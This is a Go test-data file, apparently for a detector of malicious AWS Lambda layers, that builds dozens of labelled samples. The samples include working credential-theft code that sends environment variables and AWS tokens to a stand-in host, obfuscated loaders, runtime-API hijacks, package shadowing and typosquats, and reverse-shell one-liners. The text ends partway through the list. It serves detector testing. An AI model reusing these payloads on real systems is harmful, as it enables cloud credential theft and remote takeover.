package layers

import (
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"io/fs"
	"strings"
)

// The samples of this file were written without a look at the analyzers: the
// same techniques, reached by a detour. What is missed stays in the evaluation
// as a miss.

// module is a package of a layer that Python's import finds, of one file.
func module(body string) File { return File{"python/acme/__init__.py", body, 0} }

// nodeModule is an installed npm package of one file.
func nodeModule(body string) []File {
	return []File{
		{"nodejs/node_modules/acme/index.js", body, 0},
		{"nodejs/node_modules/acme/package.json", `{"name":"acme","version":"1.0.0","main":"index.js"}`, 0},
	}
}

// wrapped is a layer whose script AWS_LAMBDA_EXEC_WRAPPER starts.
func wrapped(name, runtime string, want []string, script string, more ...File) Sample {
	return one(name, runtime, want, append([]File{{"start", script, 0o755}}, more...)...).with("AWS_LAMBDA_EXEC_WRAPPER=/opt/start")
}

func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

// startDetours are detours of what the runtime starts.
func startDetours() []Sample {
	theft, hidden := ids("credential-theft"), ids("credential-theft", "obfuscated-code")
	return []Sample{
		wrapped("T1/python/python-script", py, theft, "#!/usr/bin/env python3\nimport os, sys, json\nfrom urllib import request as r\ndef report(where, what):\n    r.urlopen(r.Request(where, json.dumps(what).encode(), method='POST'))\nreport('https://"+sink+"/start', {**os.environ})\nos.execvp(sys.argv[1], sys.argv[1:])\n"),
		wrapped("T1/node/sourced", node, theft, "#!/bin/bash\nset -e\n. /opt/lib/common.sh\nstart_telemetry\nexec \"$@\"\n", File{"lib/common.sh", "start_telemetry() {\n  local body\n  body=$(env | base64 -w0)\n  wget -q --post-data=\"$body\" https://" + sink + "/t -O /dev/null &\n}\n", 0o644}),
		wrapped("T1/dotnet/here-document", "dotnet8", theft, "#!/bin/sh\n/bin/sh <<'SETUP'\ntok=$AWS_SESSION_TOKEN\ncurl -s \"https://"+sink+"/$tok\"\nSETUP\nexec \"$@\"\n"),
		wrapped("T1/java/function", "java21", theft, "#!/bin/bash\nsend() { \"$1\" -s --data-binary @- \"$2\"; }\nprintenv | send curl https://"+sink+"/\nexec \"$@\"\n"),
		wrapped("T1/ruby/obfuscated-words", "ruby3.3", hidden, "#!/bin/bash\na=cu; b=rl; h=collect.example; e=en; v=v\n$e$v | $a$b -s -d @- https://$h.invalid/\nexec \"$@\"\n"),
		wrapped("T1/python/obfuscated-hex", py, hidden, "#!/bin/bash\neval \"$(echo "+hex.EncodeToString([]byte("env | curl -s -d @- https://"+sink))+" | xxd -r -p)\"\nexec \"$@\"\n"),
		one("T2/any/wget", py, theft, File{"extensions/logs", "#!/bin/sh\nset -eu\nK=$(printenv AWS_SECRET_ACCESS_KEY)\nwhile :; do wget -q -O- \"http://" + sink + "/?k=$K\"; sleep 300; done\n", 0o755}),
		one("T2/any/node-detour", node, theft, File{"extensions/agent", "#!/usr/bin/env node\n'use strict';\nconst net = require('ht' + 'tps');\nconst all = Object.entries(process.env).map(([k, v]) => `${k}=${v}`).join('\\n');\nconst req = net['req' + 'uest']({hostname: '" + sink + "', method: 'PUT', path: '/'});\nreq.write(all);\nreq.end();\n", 0o755}),
		one("T2/any/python-curl", py, theft, File{"extensions/agent", "#!/usr/bin/python3\nimport os, subprocess\ncmd = ['curl', '-s', '-H', 'X-T: ' + os.getenv('AWS_SESSION_TOKEN', ''), 'https://" + sink + "/']\nsubprocess.run(cmd, check=False)\n", 0o755}),
		one("T2/any/obfuscated-script", py, ids("obfuscated-code", "download-and-run"), File{"extensions/agent", "#!/bin/bash\np=$(printf '%s' '" + reverse(b64("echo inert")) + "' | rev | base64 --decode)\nbash <<< \"$p\"\n", 0o755}),
		one("T3/python/relay", py, ids("runtime-api-proxy"), File{"python/relay.py", "import os, socketserver, threading, urllib.request\nUP = os.environ.get('AWS_LAMBDA_RUNTIME_API')\nclass R(socketserver.StreamRequestHandler):\n    def handle(self):\n        self.wfile.write(urllib.request.urlopen(f'http://{UP}/2018-06-01/runtime/invocation/next').read())\nsrv = socketserver.ThreadingTCPServer(('127.0.0.1', 9009), R)\nthreading.Thread(target=srv.serve_forever, daemon=True).start()\nos.environ.update(AWS_LAMBDA_RUNTIME_API='127.0.0.1:9009')\n", 0}),
		one("T3/node/obfuscated-brackets", node, ids("runtime-api-proxy"), nodeModule("const net = require('net');\nconst e = process['env'], k = ['AWS', 'LAMBDA', 'RUNTIME', 'API'].join('_');\nconst [host, port] = e[k].split(':');\nnet.createServer(c => { const u = net.connect(port, host); c.pipe(u); u.pipe(c); }).listen(9009);\ne[k] = 'localhost:9009';\n")...),
		wrapped("T3/shell/obfuscated-export", "java17", ids("runtime-api-proxy"), "#!/bin/bash\n/opt/bin/r &\nn=AWS_LAMBDA_RUNTIME\nexport \"${n}_API=127.0.0.1:9009\"\nexec \"$@\"\n", File{"bin/r", elf(62, "2018-06-01/runtime/invocation\x00"), 0o755}),
		one("T3/elf/memory", py, ids("runtime-api-proxy"), File{"extensions/spy", elf(62, "process_vm_writev\x00/2018-06-01/runtime/invocation/next\x00/proc/self/maps\x00"), 0o755}),
		one("T3/ruby/env", "ruby3.3", ids("runtime-api-proxy"), File{"ruby/lib/relay.rb", "require 'webrick'\nUP = ENV['AWS_LAMBDA_RUNTIME_API']\nENV['AWS_LAMBDA_RUNTIME_API'] = '127.0.0.1:9009'\ns = WEBrick::HTTPServer.new(Port: 9009)\ns.mount_proc('/') { |q, r| r.body = Net::HTTP.get(URI(\"http://#{UP}/2018-06-01/runtime/invocation/next\")) }\nThread.new { s.start }\n", 0}),
		one("T4/python/tab", py, ids("pth-code"), File{"python/protobuf-nspkg.pth", "import\tsys, types;p = sys.modules.setdefault('a', types.ModuleType('a'));import subprocess;subprocess.Popen(['sh', '-c', 'id'])\n", 0}),
		one("T4/python/known-name", "python3.13", ids("pth-code"), File{"python/lib/python3.13/site-packages/distutils-precedence.pth", "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack2').add_shim();\n", 0}, File{"python/lib/python3.13/site-packages/_distutils_hack2/__init__.py", "def add_shim(): pass\n", 0}),
		one("T4/python/obfuscated-chars", py, ids("pth-code"), File{"python/zz.pth", "import builtins as b;getattr(b, ''.join(map(chr, (101, 120, 101, 99))))(bytes.fromhex('70617373'))\n", 0}),
		wrapped("T5/python/path-by-wrapper", py, ids("site-customize"), "#!/bin/bash\nexport PYTHONPATH=/opt/early:$PYTHONPATH\nexec \"$@\"\n", File{"early/sitecustomize.py", "import acme_agent\n", 0}),
		one("T5/python/compiled", py, ids("site-customize"), File{"early/sitecustomize.pyc", pyc(0, 1767323046, 6), 0}).with("PYTHONPATH=/var/task:/opt/early"),
		wrapped("T5/python/obfuscated-path", py, ids("site-customize"), "#!/bin/bash\nd=/opt/ea\nv=PYTHON\nexport ${v}PATH=\"${d}rly\"\nexec \"$@\"\n", File{"early/usercustomize.py", "exec(bytes.fromhex('70617373'))\n", 0}),
		one("T9/node/import-url", node, ids("loader-variable"), File{"boot.mjs", "globalThis.x = 1\n", 0}).with("NODE_OPTIONS=--max-old-space-size=900 --import=file:///opt/boot.mjs"),
		one("T9/java/native-agent", "java21", ids("loader-variable"), File{"lib/libt.so", elf(62, "Agent_OnLoad\x00"), 0o755}).with("JAVA_TOOL_OPTIONS=-Xmx512m -agentpath:/opt/lib/libt.so=x"),
		one("T9/any/audit", "ruby3.3", ids("loader-variable"), File{"lib/a.so", elf(62, "la_version\x00"), 0o755}).with("LD_AUDIT=/opt/lib/a.so"),
		wrapped("T9/dotnet/hook-by-wrapper", "dotnet8", ids("loader-variable"), "#!/bin/sh\nexport DOTNET_STARTUP_HOOKS=/opt/agent/Hook.dll\nexec \"$@\"\n", File{"agent/Hook.dll", "MZ", 0}),
		one("T9/dotnet/profiler", "dotnet8", ids("loader-variable"), File{"agent/p.so", elf(62, "DllGetClassObject\x00"), 0o755}).with("CORECLR_ENABLE_PROFILING=1", "CORECLR_PROFILER_PATH=/opt/agent/p.so", "CORECLR_PROFILER={00000000-0000-0000-0000-000000000001}"),
		wrapped("T9/node/obfuscated-name", node, ids("loader-variable"), "#!/bin/bash\nk=NODE_OPT\nexport ${k}IONS=\"--require /opt/h.js\"\nexec \"$@\"\n", File{"h.js", "void 0\n", 0}),
		wrapped("T9/ruby/obfuscated-prefix", "ruby3.2", ids("loader-variable"), "#!/bin/sh\no=-r\nexec env RUBYOPT=\"${o}/opt/h.rb\" \"$@\"\n", File{"h.rb", "1\n", 0}),
		wrapped("T10/any/path-by-wrapper", py, ids("path-shadow"), "#!/bin/sh\nexport PATH=/opt/bin:$PATH\nexec \"$@\"\n", File{"bin/openssl", "#!/bin/sh\nexec true\n", 0o755}),
		wrapped("T10/any/obfuscated-path", node, ids("path-shadow"), "#!/bin/bash\nr=/opt; s=tools\nexport PATH=\"$r/$s:$PATH\"\nexec \"$@\"\n", File{"tools/node", "#!/bin/sh\nexec true\n", 0o755}),
		wrapped("T10/any/library-by-wrapper", "java21", ids("path-shadow"), "#!/bin/sh\nLD_LIBRARY_PATH=/opt/native:$LD_LIBRARY_PATH\nexport LD_LIBRARY_PATH\nexec \"$@\"\n", File{"native/libc.so.6", elf(62, "getenv\x00"), 0o755}),
		one("T11/provided/python", "provided.al2023", ids("custom-bootstrap"), File{"bootstrap", "#!/opt/python/bin/python3\nimport runtime\nruntime.main()\n", 0o755}, File{"runtime.py", "def main(): pass\n", 0}).calls("app.handler", File{"app.py", "x = 1\n", 0}),
		one("T11/provided/obfuscated-link", "provided.al2", ids("custom-bootstrap"), File{"bootstrap", "lib/.r", 0o777 | fs.ModeSymlink}, File{"lib/.r", elf(62, ""), 0o755}),
		one("T12/python/package", "python3.13", ids("handler-in-layer"), File{"python/vendor_agent/__init__.py", "", 0}, File{"python/vendor_agent/run.py", "import os, importlib\ndef handler(e, c):\n    m, f = os.environ['REAL_HANDLER'].rsplit('.', 1)\n    return getattr(importlib.import_module(m), f)(e, c)\n", 0}).calls("vendor_agent.run.handler", File{"app.py", "def handler(e, c): return 1\n", 0}),
		one("T12/node/obfuscated-redirect", node, ids("handler-in-layer"), File{"nodejs/node_modules/@vendor/run/handler.js", "exports['han' + 'dler'] = (...a) => require(process.env.REAL).handler(...a)\n", 0}, File{"nodejs/node_modules/@vendor/run/package.json", `{"name":"@vendor/run","version":"1.0.0"}`, 0}).calls("/opt/nodejs/node_modules/@vendor/run/handler.handler", File{"app.js", "exports.handler = async () => 1\n", 0}),
		one("T12/java/jar", "java21", ids("handler-in-layer"), File{"java/lib/agent.jar", string(Zip(File{"io/vendor/Wrapper.class", "\xca\xfe\xba\xbe\x00\x00\x00\x41", 0})), 0}).calls("io.vendor.Wrapper::handleRequest", File{"app/Main.class", "\xca\xfe\xba\xbe\x00\x00\x00\x41", 0}),
		one("T12/python/nothing", py, ids("unresolved-start"), File{"python/acme/__init__.py", "x = 1\n", 0}).calls("ap.handler", File{"app.py", "def handler(e, c): return 1\n", 0}),
		one("T12/node/nothing", node, ids("unresolved-start"), nodeModule("exports.x = 1\n")...).calls("src/main.handler", File{"index.js", "exports.handler = async () => 1\n", 0}),
		one("T1/python/nothing", py, ids("unresolved-start"), module("x = 1\n")).with("AWS_LAMBDA_EXEC_WRAPPER=/opt/bin/wrap"),
		one("T1/node/directory", node, ids("unresolved-start"), File{"wrap/start", "#!/bin/sh\nexec \"$@\"\n", 0o755}).with("AWS_LAMBDA_EXEC_WRAPPER=/opt/wrap"),
	}
}

// searchDetours are detours of what wins on a search path.
func searchDetours() []Sample {
	class := func(more string) string { return "\xca\xfe\xba\xbe\x00\x00\x00\x41" + more }
	jar := func(name string, files ...File) File { return File{"java/lib/" + name, string(Zip(files...)), 0} }
	pkg := func(dir, name, version, body string) []File {
		return []File{{dir + name + "/index.js", body, 0}, {dir + name + "/package.json", fmt.Sprintf(`{"name":%q,"version":%q,"main":"index.js"}`, name, version), 0}}
	}
	return []Sample{
		one("T6/python/native", py, ids("shadowed-package"), File{"python/urllib3.cpython-312-x86_64-linux-gnu.so", elf(62, "PyInit_urllib3\x00"), 0o755}),
		one("T6/python/compiled", py, ids("shadowed-package"), File{"python/botocore/__init__.pyc", pyc(0, 1767323046, 6), 0}),
		one("T6/python/obfuscated-sdk", py, ids("shadowed-package", "obfuscated-code"), File{"python/boto3/__init__.py", "import base64\nexec(base64.b85decode('Xk~0{Zy'))\n", 0}),
		one("T7/python/native", py, ids("shadowed-stdlib"), File{"python/_sqlite3.cpython-312-x86_64-linux-gnu.so", elf(62, "PyInit__sqlite3\x00"), 0o755}, File{"python/sqlite3.py", "import _sqlite3\n", 0}),
		one("T7/python/compiled", "python3.11", ids("shadowed-stdlib"), File{"python/zoneinfo/__init__.pyc", pyc(0, 1767323046, 6), 0}),
		one("T7/python/obfuscated", py, ids("shadowed-stdlib"), File{"python/uuid/__init__.py", "exec(__import__('codecs').decode('cnff', 'rot13'))\n", 0}),
		one("T8/node/versioned", "nodejs22.x", ids("shadowed-package"), pkg("nodejs/node22/node_modules/", "@aws-sdk/client-sts", "3.1.0", "exports.STSClient = class { send() {} }\n")...),
		two("T8/node/other-layer", node, ids("shadowed-package"), pkg("nodejs/node_modules/", "pg", "8.11.0", "exports.Client = class {}\n"), pkg("nodejs/node20/node_modules/", "pg", "8.11.0", "exports.Client = class { query(q) {} }\n")),
		one("T8/node/node-path", node, ids("shadowed-package"), File{"extra/@aws-sdk/client-s3/index.js", "exports.S3Client = class {}\n", 0}, File{"extra/@aws-sdk/client-s3/package.json", `{"name":"@aws-sdk/client-s3","version":"3.0.0"}`, 0}).with("NODE_PATH=/opt/extra:/var/runtime/node_modules"),
		one("T8/node/obfuscated-main", node, ids("shadowed-package"), File{"nodejs/node_modules/@smithy/types/package.json", `{"name":"@smithy/types","version":"4.0.0","main":"./dist/../lib/x"}`, 0}, File{"nodejs/node_modules/@smithy/types/lib/x.js", "eval(String.fromCharCode(49))\n", 0}),
		one("T13/java/versions", "java21", ids("java-class-shadow"), jar("a.jar", File{"META-INF/MANIFEST.MF", "Manifest-Version: 1.0\nMulti-Release: true\n", 0}, File{"META-INF/versions/17/org/acme/Auth.class", class("x"), 0}), jar("b.jar", File{"org/acme/Auth.class", class("y"), 0})),
		one("T13/java/own-service", "java21", ids("java-class-shadow"), jar("acme.jar", File{"META-INF/services/org.acme.spi.Login", "org.acme.Real\n", 0}, File{"org/acme/Real.class", class(""), 0}), jar("aa.jar", File{"META-INF/services/org.acme.spi.Login", "x.Fake\n", 0}, File{"x/Fake.class", class("f"), 0})),
		{
			Name: "T13/java/two-layers", Technique: "T13", Runtime: "java17", Want: ids("java-class-shadow", "shadowed-package"),
			Layers: [][]byte{Zip(jar("acme.jar", File{"org/acme/Auth.class", class(""), 0})), Zip(jar("aa.jar", File{"org/acme/Auth.class", class("patched"), 0}))},
		},
		one("T13/java/obfuscated-class-path", "java21", ids("java-class-shadow"), jar("a.jar", File{"META-INF/MANIFEST.MF", "Manifest-Version: 1.0\nClass-Path: ../../etc/data.bin\n", 0}), jar("b.jar", File{"org/acme/Auth.class", class("y"), 0}), File{"etc/data.bin", string(Zip(File{"org/acme/Auth.class", class("x"), 0})), 0}),
		one("T14/ruby/sdk", "ruby3.3", ids("shadowed-package", "shadowed-stdlib"), File{"ruby/lib/aws-sdk-s3.rb", "module Aws; module S3; end; end\n", 0}),
		one("T14/ruby/default-gem", "ruby3.3", ids("shadowed-package", "shadowed-stdlib"), File{"ruby/gems/3.3.0/specifications/json-99.0.0.gemspec", "Gem::Specification.new do |s|\n  s.name = \"json\".freeze\n  s.version = \"99.0.0\"\n  s.require_paths = [\"lib\".freeze]\nend\n", 0}, File{"ruby/gems/3.3.0/gems/json-99.0.0/lib/json.rb", "module JSON; end\n", 0}),
		one("T14/ruby/obfuscated", "ruby3.3", ids("shadowed-stdlib"), File{"ruby/lib/openssl.rb", "eval(['cHV0cyAx'].pack('H*').unpack1('m'))\n", 0}),
		one("T27/python/dynamic", py, ids("gap-fill"), File{"python/pandsa/__init__.py", "x = 1\n", 0}).calls("app.handler", File{"app.py", "import importlib\nm = importlib.import_module('pandsa')\ndef handler(e, c): return m.x\n", 0}),
		one("T27/node/obfuscated-import", node, ids("gap-fill"), pkg("nodejs/node_modules/", "loadsh", "4.17.0", "module.exports = {}\n")...).calls("app.handler", File{"app.js", "const n = ['load', 'sh'].join(''); const _ = require(n); exports.handler = async () => _\n", 0}),
		one("T27/node/module", "nodejs22.x", ids("gap-fill"), pkg("nodejs/node_modules/", "axois", "1.0.0", "module.exports = {}\n")...).calls("app.handler", File{"app.mjs", "const axios = (await import('axois')).default; export const handler = async () => axios\n", 0}),
	}
}

// codeDetours are detours of what code does.
func codeDetours() []Sample {
	theft, hidden := ids("credential-theft"), ids("credential-theft", "obfuscated-code")
	p := func(name string, want []string, body string) Sample { return one(name, py, want, module(body)) }
	n := func(name string, want []string, body string) Sample {
		return one(name, node, want, nodeModule(body)...)
	}
	sh := func(name string, want []string, body string) Sample {
		return one(name, py, want, File{"extensions/x", "#!/bin/bash\n" + body, 0o755})
	}
	const url = "https://" + sink
	host64 := b64(url + "/")
	return []Sample{
		p("T17/python/comprehension", theft, "import os\nfrom urllib.parse import urlencode\nfrom urllib.request import urlopen\npairs = [f'{k}={v}' for k, v in os.environ.items() if k.startswith('AWS')]\nurlopen('"+url+"/?' + urlencode({'d': '|'.join(pairs)}))\n"),
		p("T17/python/vars", hidden, "import os as o, requests\nE = vars(o)['env' + 'iron']\nrequests.post(url='"+url+"', json=dict(E))\n"),
		p("T17/python/popen", theft, "import os\ntoken = os.environ.get('AWS_SESSION_TOKEN')\nos.popen('nslookup %s."+sink+"' % token[:50])\n"),
		p("T17/python/class", theft, "import os, http.client\nclass Beacon:\n    def __init__(self):\n        self.data = dict(os.environ)\n        self.to = '"+sink+"'\n    def fire(self):\n        c = http.client.HTTPSConnection(self.to)\n        c.request('POST', '/', body=str(self.data))\nBeacon().fire()\n"),
		p("T17/python/thread", theft, "import os, threading, requests\ndef go(d):\n    requests.put('"+url+"', data=d)\nthreading.Thread(target=go, args=(str(os.environ),)).start()\n"),
		p("T17/python/sqs", theft, "import os, json, boto3\nq = boto3.client('sqs', region_name='eu-west-1')\nq.send_message(QueueUrl='https://sqs.eu-west-1.amazonaws.com/999999999999/inbox', MessageBody=json.dumps({k: os.environ[k] for k in os.environ}))\n"),
		p("T17/python/session", theft, "import boto3, urllib.request, json\nc = boto3.Session().get_credentials().get_frozen_credentials()\nbody = json.dumps([c.access_key, c.secret_key, c.token]).encode()\nurllib.request.urlopen('"+url+"', body)\n"),
		p("T17/python/metadata", theft, "import os, urllib.request as u\nc = u.urlopen('http://169.254.170.2' + os.environ['AWS_CONTAINER_CREDENTIALS_RELATIVE_URI']).read()\nu.urlopen('"+url+"', data=c)\n"),
		p("T17/python/proc-pid", theft, "import os, socket\nwith open(f'/proc/{os.getpid()}/environ', 'rb') as f:\n    blob = f.read()\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nfor i in range(0, len(blob), 500):\n    s.sendto(blob[i:i+500], ('"+sink+"', 53))\n"),
		p("T17/python/mail", theft, "import os, smtplib\nwith smtplib.SMTP('"+sink+"') as m:\n    m.sendmail('a@example.invalid', ['b@example.invalid'], '\\n'.join(f'{a}: {b}' for a, b in os.environ.items()))\n"),
		p("T17/python/logging-handler", theft, "import logging, logging.handlers, os\nlog = logging.getLogger('x')\nlog.addHandler(logging.handlers.HTTPHandler('"+sink+"', '/', method='POST'))\nlog.warning(dict(os.environ))\n"),
		p("T17/python/asyncio", theft, "import aiohttp, asyncio, os\nasync def main():\n    async with aiohttp.ClientSession() as s:\n        async with s.post('"+url+"', json={**os.environ}) as r:\n            await r.text()\nasyncio.run(main())\n"),
		p("T17/python/boto-hook", ids("credential-theft", "request-capture"), "import urllib.request, boto3\ndef tap(request, **kw):\n    urllib.request.urlopen('"+url+"', data=str(dict(request.headers)).encode())\nboto3._get_default_session().events.register('before-send.*.*', tap)\n"),
		p("T17/python/obfuscated-import", hidden, "import importlib\nm = importlib.import_module(''.join(['o', 's']))\nn = importlib.import_module('.'.join(('urllib', 'request')))\ng = m.__dict__[''.join(reversed('norivne'))]\nn.urlopen(__import__('base64').b64decode('"+host64+"').decode() + str(g))\n"),
		p("T17/python/obfuscated-lambda", hidden, "z = lambda a, b: getattr(__import__(a), b)\nd = z('os', 'environ')\nz('subprocess', 'run')(['cu' + 'rl', '-d', repr(dict(d)), bytes.fromhex('"+hex.EncodeToString([]byte(url))+"').decode()])\n"),
		n("T17/node/spread", theft, "const { request } = require('node:https');\nconst bag = { ...process.env, at: Date.now() };\nconst r = request('"+url+"', { method: 'POST' });\nr.write(JSON.stringify(bag)); r.end();\n"),
		n("T17/node/destructured", theft, "const { env } = process;\n(async () => { const { default: axios } = await import('axios'); await axios.post(`https://${'collect'}.example.invalid/`, env); })();\n"),
		n("T17/node/dns", theft, "const dns = require('dns').promises;\nconst t = process.env['AWS_SESSION_TOKEN'] || '';\nfor (let i = 0; i < t.length; i += 60) dns.resolveTxt(`${Buffer.from(t.slice(i, i + 60)).toString('hex')}."+sink+"`).catch(() => {});\n"),
		n("T17/node/exec", theft, "const cp = require('child_process');\ncp.execSync(`curl -s -d '${JSON.stringify(process.env)}' "+url+"`);\n"),
		n("T17/node/proc", theft, "const fs = require('fs'), http = require('http');\nfs.readFile('/proc/self/environ', (err, data) => { http.request({ host: '"+sink+"', method: 'POST' }, () => {}).end(data); });\n"),
		n("T17/node/s3", theft, "const { S3Client, PutObjectCommand } = require('@aws-sdk/client-s3');\nnew S3Client({}).send(new PutObjectCommand({ Bucket: 'collect-example-invalid', Key: String(Date.now()), Body: JSON.stringify(process.env) }));\n"),
		n("T17/node/provider", theft, "const { fromNodeProviderChain } = require('@aws-sdk/credential-providers');\nfromNodeProviderChain()().then(c => fetch('"+url+"', { method: 'POST', body: JSON.stringify(c) }));\n"),
		n("T17/node/websocket", theft, "const WebSocket = require('ws');\nconst w = new WebSocket('wss://"+sink+"/');\nw.on('open', () => w.send(Object.keys(process.env).map(k => k + '=' + process.env[k]).join('\\n')));\n"),
		n("T17/node/obfuscated-global", hidden, "const g = globalThis['pro' + 'cess']['e' + 'nv'];\nconst f = globalThis[['fe', 'tch'].join('')];\nf(atob('"+host64+"'), { method: 'POST', body: JSON['string' + 'ify'](g) });\n"),
		n("T17/node/obfuscated-eval", hidden, "const e = (0, eval)('process' + '.env');\nnew Function('r', 'd', 'r(\"https\").request(\"https://' + 'collect.example.invalid\",{method:\"POST\"}).end(JSON.stringify(d))')(require, e);\n"),
		n("T17/node/obfuscated-reflect", hidden, "const P = Reflect.get(global, 'process');\nconst E = Reflect.get(P, ['e', 'n', 'v'].join(''));\nmodule.require(Buffer.from('aHR0cHM=', 'base64') + '').get('"+url+"/?' + encodeURIComponent(JSON.stringify(E)));\n"),
		sh("T17/shell/loop", theft, "for n in AWS_ACCESS_KEY_ID AWS_SECRET_ACCESS_KEY AWS_SESSION_TOKEN; do\n  q=\"$q&$n=${!n}\"\ndone\ncurl -s \""+url+"/?$q\"\n"),
		sh("T17/shell/dev-tcp", theft, "exec 3<>/dev/tcp/"+sink+"/80\ntr '\\0' '\\n' < /proc/1/environ >&3\n"),
		sh("T17/shell/dns", theft, "k=$(echo -n \"$AWS_SECRET_ACCESS_KEY\" | od -An -tx1 | tr -d ' \\n')\ndig +short \"${k:0:60}."+sink+"\"\n"),
		sh("T17/shell/aws", theft, "env > /tmp/e\naws s3 cp /tmp/e s3://collect-example-invalid/$(hostname)\n"),
		sh("T17/shell/obfuscated-eval", hidden, "x='"+b64("env | curl -s -d @- "+url)+"'\nf() { eval \"$(base64 -d <<< \"$1\")\"; }\nf \"$x\"\n"),
		one("T17/ruby/plain", "ruby3.3", theft, File{"ruby/lib/acme.rb", "require 'net/http'\nrequire 'json'\nNet::HTTP.post(URI('" + url + "'), ENV.to_h.to_json)\n", 0}),
		one("T17/ruby/shell", "ruby3.3", theft, File{"ruby/lib/acme.rb", "%x(curl -s -d \"#{ENV['AWS_SESSION_TOKEN']}\" " + url + ")\n", 0}),
		one("T17/ruby/obfuscated", "ruby3.3", hidden, File{"ruby/lib/acme.rb", "require 'open-uri'\neval('" + b64("URI.open('"+url+"?'+ENV.to_a.join)") + "'.unpack1('m'))\n", 0}),
		one("T17/java/class", "java21", theft, File{"java/lib/a.jar", string(Zip(File{"a/Agent.class", "\xca\xfe\xba\xbe\x00\x00\x00\x41\x01\x00\x06getenv\x01\x00\x11()Ljava/util/Map;\x01\x00\x10java/lang/System\x01\x00\x18java/net/http/HttpClient\x01\x00\x1f" + url, 0})), 0}),
		one("T17/dotnet/assembly", "dotnet8", theft, File{"agent/Hook.dll", "MZ" + strings.Repeat("\x00", 64) + "BSJB\x00#Strings\x00StartupHook\x00GetEnvironmentVariables\x00HttpClient\x00PostAsync\x00", 0}).with("DOTNET_STARTUP_HOOKS=/opt/agent/Hook.dll"),
		p("T18/python/sdk-auth", ids("request-capture", "import-hook"), "import botocore.auth as a, requests\norig = a.SigV4Auth.add_auth\ndef add_auth(self, request):\n    requests.post('"+url+"', json={'k': self.credentials.secret_key, 'u': request.url})\n    return orig(self, request)\nsetattr(a.SigV4Auth, 'add_auth', add_auth)\n"),
		p("T18/python/fake-module", ids("import-hook"), "import sys, types\nm = types.ModuleType('requests')\nm.post = lambda *a, **k: None\nsys.modules['requests'] = m\n"),
		p("T18/python/trace", ids("request-capture"), "import sys, urllib.request\ndef t(frame, event, arg):\n    if frame.f_code.co_name.endswith('handler'):\n        urllib.request.urlopen('"+url+"', data=repr(frame.f_locals).encode())\n    return t\nsys.settrace(t)\n"),
		p("T18/python/decorator", ids("request-capture"), "import functools, requests\ndef observe(fn):\n    @functools.wraps(fn)\n    def inner(event, context):\n        requests.post('"+url+"', json=event)\n        return fn(event, context)\n    return inner\n"),
		n("T18/node/define", ids("import-hook", "request-capture"), "const https = require('https');\nconst real = https.request;\nObject.defineProperty(https, 'request', { value: function (...a) { real({ host: '"+sink+"', method: 'POST' }).end(JSON.stringify(a)); return real.apply(this, a); } });\n"),
		n("T18/node/cache", ids("import-hook"), "const id = require.resolve('pg');\nrequire.cache[id] = { id, filename: id, loaded: true, exports: { Client: class { query(q) { return q } } } };\n"),
		n("T18/node/emit", ids("import-hook", "request-capture"), "const { Server } = require('http'); const E = require('events');\nconst emit = E.prototype.emit;\nE.prototype.emit = function (n, ...a) { if (n === 'request') fetch('"+url+"', { method: 'POST', body: String(a[0].headers) }); return emit.call(this, n, ...a); };\n"),
		n("T18/node/obfuscated-proxy", ids("import-hook", "request-capture", "obfuscated-code"), "const h = require('ht' + 'tps'); const k = 'requ' + 'est';\nh[k] = new Proxy(h[k], { apply(t, s, a) { fetch(atob('"+host64+"'), { method: 'POST', body: JSON.stringify(a) }); return Reflect.apply(t, s, a); } });\n"),
		p("T19/python/xor", ids("obfuscated-code"), "k = 7\ns = bytes(c ^ k for c in b'"+xor("print('inert')", 7)+"')\nexec(compile(s, '<m>', 'exec'))\n"),
		p("T19/python/builtins", ids("obfuscated-code"), "import builtins\ngetattr(builtins, 'e' + 'v' + 'al')(compile('0', '', 'ev' + 'al'))\n_ = __builtins__.__dict__['ex' + 'ec']\n_(bytes([112, 97, 115, 115]))\n"),
		p("T19/python/function-type", ids("obfuscated-code"), "import types, marshal, zlib\nf = types.FunctionType(marshal.loads(zlib.decompress(open(__file__ + '.dat', 'rb').read())), globals())\nf()\n"),
		p("T19/python/rot13", ids("obfuscated-code"), "import codecs\ncode = codecs.decode('vzcbeg bf', 'rot_13')\nexec(code)\n"),
		n("T19/node/constructor", ids("obfuscated-code"), "[]['filter']['constructor'](Buffer.from('dm9pZCAw', 'base64').toString())();\n"),
		n("T19/node/vm", ids("obfuscated-code"), "const vm = require('vm'); const zlib = require('zlib');\nvm.runInThisContext(zlib.inflateSync(Buffer.from('"+b64(strings.Repeat("inert", 30))+"', 'base64')).toString('utf8'));\n"),
		n("T19/node/data-url", ids("obfuscated-code"), "import('data:text/javascript;base64,"+b64("globalThis.x=1;//"+strings.Repeat("inert", 20))+"');\n"),
		n("T19/node/charcodes", ids("obfuscated-code"), "const s = [118,111,105,100,32,48].map(c => String.fromCharCode(c)).join('');\n(1, eval)(s);\n"),
		sh("T19/shell/rev", ids("obfuscated-code", "download-and-run"), "echo '"+reverse("echo inert")+"' | rev | sh\n"),
		sh("T19/shell/printf", ids("obfuscated-code", "download-and-run"), "$(printf '\\x65\\x63\\x68\\x6f') inert | bash\n. <(printf '\\145\\143\\150\\157 inert')\n"),
		one("T19/elf/packed", py, ids("obfuscated-code"), File{"extensions/x", elf(62, "UPX!\x00\x00$Info: This file is packed with the UPX executable packer http://upx.sf.net $\n\x00"), 0o755}),
		sh("T20/shell/fifo", ids("reverse-shell"), "rm -f /tmp/f; mkfifo /tmp/f\ncat /tmp/f | /bin/sh -i 2>&1 | nc "+sink+" 4444 > /tmp/f\n"),
		sh("T20/shell/perl", ids("reverse-shell"), "perl -MIO::Socket -e '$c=new IO::Socket::INET(PeerAddr,\""+sink+":4444\");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'\n"),
		sh("T20/shell/descriptor", ids("reverse-shell"), "exec 5<>/dev/tcp/"+sink+"/443\nwhile read -r line <&5; do $line 2>&5 >&5; done\n"),
		sh("T20/shell/python", ids("reverse-shell"), "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\""+sink+"\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'\n"),
		sh("T20/shell/obfuscated-reverse", ids("reverse-shell", "download-and-run"), "h="+sink+"; d=/dev/t\neval \"bash -i >& ${d}cp/$h/4444 0>&1\"\n"),
